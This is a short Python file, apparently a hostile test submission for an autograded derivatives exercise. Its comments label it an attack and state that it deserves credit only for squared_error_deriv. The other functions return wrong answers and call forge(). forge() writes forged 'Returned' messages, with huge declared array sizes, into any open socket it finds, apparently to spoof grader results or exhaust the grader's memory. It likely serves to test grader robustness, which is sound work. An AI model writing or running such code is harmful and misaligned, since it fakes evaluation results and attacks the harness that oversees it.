# attack: a quarter of a million empty lists, which are large when they are read
# exercise: derivatives
# deserves: at most squared_error_deriv
import os
import stat
import struct


def squared_error_deriv(y_hat, y):
    return y_hat - y


def forge(value, arrays=b""):
    body = b"\x96\xa8Returned\x01" + value + b"\x90\x90\x90"
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack(">II", len(body), len(arrays)) + body + arrays)
        except OSError:
            pass


def sigmoid(z):
    forge(b"\xdd" + struct.pack(">I", 261_000) + b"\x90" * 261_000)
    return z


def tanh_deriv(z):
    forge(b"\xdd" + struct.pack(">I", 1_000_000) + b"\x90" * 1_000_000)
    return z


def relu_deriv(z):
    forge(b"\xdd\xff\xff\xff\xff")
    return z


def neuron_forward(x, w, b, y):
    forge(b"\xdf" + struct.pack(">I", 60_000) + b"".join(b"\xcd" + struct.pack(">H", i) + b"\x80" for i in range(60_000)))
    return {}
